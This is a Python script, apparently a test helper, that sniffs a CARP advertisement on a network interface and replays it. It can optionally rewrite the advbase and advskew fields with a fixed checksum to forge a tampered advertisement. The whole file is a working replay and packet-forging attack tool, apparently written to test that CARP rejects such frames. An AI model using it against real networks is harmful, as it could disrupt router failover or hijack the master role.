#!/usr/bin/env python3
"""Capture a CARP advertisement off the wire and send it again, as an
attacker on the link would (the HMAC is left as captured).

  carpreplay.py DEV SRC VHID COUNT [ADVBASE ADVSKEW]
      wait (up to 10 s) for an advertisement for VHID from IPv4 source SRC
      on DEV, then send the captured frame COUNT times, 20 ms apart, out of
      DEV as a whole Ethernet frame. With ADVBASE and ADVSKEW the copies
      carry those values instead (CARP checksum fixed, HMAC untouched): a
      rewritten advertisement. Prints "captured" and "sent N".
"""
import socket
import struct
import sys
import time

from checksum import csum

ETH_P_ALL = 0x0003


def capture(dev, src, vhid, timeout=10.0):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((dev, 0))
    s.settimeout(0.5)
    end = time.time() + timeout
    want = socket.inet_aton(src)
    while time.time() < end:
        try:
            frame, addr = s.recvfrom(2048)
        except socket.timeout:
            continue
        if addr[2] == socket.PACKET_OUTGOING or len(frame) < 14 + 20 + 36:
            continue
        if frame[12:14] != b"\x08\x00" or frame[14 + 9] != 112:
            continue
        ihl = (frame[14] & 0x0F) * 4
        carp = frame[14 + ihl:]
        if frame[14 + 12:14 + 16] == want and carp[1] == vhid:
            return s, frame
    return s, None


def rewrite(frame, advbase, advskew):
    ihl = (frame[14] & 0x0F) * 4
    off = 14 + ihl
    carp = bytearray(frame[off:off + 36])
    carp[5] = advbase
    carp[2] = advskew
    carp[6:8] = b"\x00\x00"
    carp[6:8] = struct.pack("!H", csum(bytes(carp)))
    return frame[:off] + bytes(carp) + frame[off + 36:]


def main():
    dev, src, vhid, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    s, frame = capture(dev, src, vhid)
    if frame is None:
        print("no advertisement captured")
        sys.exit(1)
    print("captured", flush=True)
    if len(sys.argv) > 6:
        frame = rewrite(frame, int(sys.argv[5]), int(sys.argv[6]))
    time.sleep(0.1)
    for _ in range(count):
        s.send(frame)
        time.sleep(0.02)
    print("sent", count)


if __name__ == "__main__":
    main()
